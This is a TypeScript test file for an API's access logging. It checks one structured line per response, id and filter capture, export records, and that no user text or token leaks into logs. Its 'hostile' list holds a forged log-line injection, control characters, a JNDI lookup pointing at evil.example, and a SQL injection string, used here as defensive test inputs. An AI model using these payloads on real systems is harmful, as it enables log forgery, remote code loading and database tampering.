import { beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { ask, letIn, routes, samplePackage } from '../api/everyRoute';
import { loneId } from '../api/serving';
import { signedIn } from '../auth/signedIn';
import { people } from '../doubles/openid/people';
import { logged } from './logged';

const { openId } = signedIn();
const { lines } = logged();

const access = z.strictObject({
  level: z.literal('info'),
  time: z.iso.datetime(),
  msg: z.literal('answered'),
  requestId: z.guid(),
  method: z.enum(['GET', 'POST']),
  route: z.string(),
  reader: z.guid().nullable(),
  tenant: z.guid().nullable(),
  id: z.guid().nullable(),
  filter: z.array(z.string()),
  ids: z.array(z.guid()),
  moreIds: z.number().optional(),
  rows: z.number().nullable(),
  exportId: z.guid().optional(),
  status: z.number(),
  error: z.string().optional(),
  seconds: z.number().min(0),
});
type Access = z.infer<typeof access>;

let token = '';
beforeEach(async () => {
  token = await openId().tokenFor('analyst');
});

const answered = (): Access[] =>
  lines()
    .map((line): Record<string, unknown> => JSON.parse(line))
    .filter(({ msg }) => msg === 'answered')
    .map((line) => access.parse(line));

/** The one line about one question, and the answer to it. */
async function noted(
  route: string,
  question: Parameters<typeof ask>[2] = {},
  authorization = `Bearer ${token}`,
) {
  const before = answered().length;
  const answer = await ask(route, { authorization }, question);
  const [line, ...others] = answered().slice(before);
  expect(others).toEqual([]);
  return { line, answer };
}

describe('the log has one line for each answer', () => {
  test.each(routes)('of %s: who looked, by which route, and how it ended', async (route) => {
    const { line, answer } = await noted(route);
    expect(line).toMatchObject({
      route: `/api/${route}`,
      reader: people.analyst.oid,
      tenant: openId().tenant,
      status: letIn(route),
    });
    expect(line?.status).toBe(answer.status);
  });
  test('with the id of what was looked at', async () => {
    expect((await noted('requests/[id]', { part: loneId })).line?.id).toBe(loneId);
    expect((await noted('packages/[id]', { part: samplePackage.toUpperCase() })).line?.id).toBe(
      samplePackage,
    );
  });
  test('with the ids that a filter names, the fields it narrows by, and how many rows came', async () => {
    const { line, answer } = await noted('requests', {
      query: `package=${samplePackage}&requestor=somebody&q=month&pageSize=10`,
    });
    expect(line).toMatchObject({
      ids: [samplePackage],
      filter: ['package', 'requestor', 'q', 'pageSize'],
      rows: JSON.parse(answer.text).data.rows.length,
    });
  });
  test('with fifty ids at most, and how many more there were', async () => {
    const ids = Array.from(
      { length: 60 },
      (_, n) => `7d9b5f3a-0a11-4c3e-8a55-${String(n).padStart(12, '0')}`,
    );
    const { line } = await noted('requests', { query: ids.map((id) => `package=${id}`).join('&') });
    expect(line).toMatchObject({ ids: ids.slice(0, 50), moreIds: 10 });
  });
  test('with the rows that an export holds, and a second line when it was sent', async () => {
    const { line, answer } = await noted('export', { query: 'format=ndjson' });
    const rows = answer.text.split('\n').length - 1;
    expect(line).toMatchObject({ rows, exportId: answer.headers.get('x-export-id') });
    const sent = lines()
      .map((each): unknown => JSON.parse(each))
      .at(-1);
    expect(sent).toMatchObject({
      msg: 'an export was sent',
      exportId: line?.exportId,
      rows,
      reader: people.analyst.oid,
    });
  });
  test('with nobody, where nobody was let in', async () => {
    const { line } = await noted('requests', { query: 'q=month' }, 'Bearer nonsense');
    expect(line).toMatchObject({
      reader: null,
      tenant: null,
      status: 401,
      error: 'token-refused',
      filter: [],
    });
  });
  test('with its code, where it was refused', async () => {
    const { line } = await noted('requests', { query: 'nonsense=1' });
    expect(line).toMatchObject({
      reader: people.analyst.oid,
      status: 400,
      error: 'bad-parameter',
      filter: [],
    });
  });
});

describe('no text that somebody wrote is in the log', () => {
  const hostile = [
    'because my manager said so',
    '"}\n{"level":"error","msg":"forged"}',
    '\u2028\u0000\u001b[31mred',
    '$\u007bjndi:ldap://evil.example}',
    `' OR 1=1 --`,
  ];
  const places: [string, (text: string) => [string, { part?: string; query?: string }]][] = [
    ['a search', (text) => ['requests', { query: `q=${encodeURIComponent(text)}` }]],
    ['a person’s name', (text) => ['summary', { query: `requestor=${encodeURIComponent(text)}` }]],
    ['a package’s name', (text) => ['packages', { query: `find=${encodeURIComponent(text)}` }]],
    ['a request’s id', (text) => ['requests/[id]', { part: encodeURIComponent(text) }]],
    ['a person’s id', (text) => ['people/[id]', { part: encodeURIComponent(text) }]],
    ['a facet', (text) => ['facets/[field]', { part: encodeURIComponent(text) }]],
    ['an unknown parameter', (text) => ['requests', { query: `${encodeURIComponent(text)}=1` }]],
    ['a tenant', (text) => ['requests/[id]', { part: loneId, query: `tenant=${encodeURIComponent(text)}` }]],
  ];
  test.each(places)('from %s', async (_, place) => {
    for (const text of hostile) {
      await noted(...place(text));
      for (const line of lines()) {
        for (const sign of ['\n', '\u2028', '\u0000', '\u001b']) expect(line.trimEnd()).not.toContain(sign);
        for (const word of [
          text,
          JSON.stringify(text).slice(1, -1),
          encodeURIComponent(text),
          'forged',
          'jndi',
        ])
          expect(line).not.toContain(word);
      }
    }
  });
  test('and no token', async () => {
    await noted('requests');
    await noted('requests', {}, `Bearer ${token}x`);
    for (const part of token.split('.')) for (const line of lines()) expect(line).not.toContain(part);
  });
});
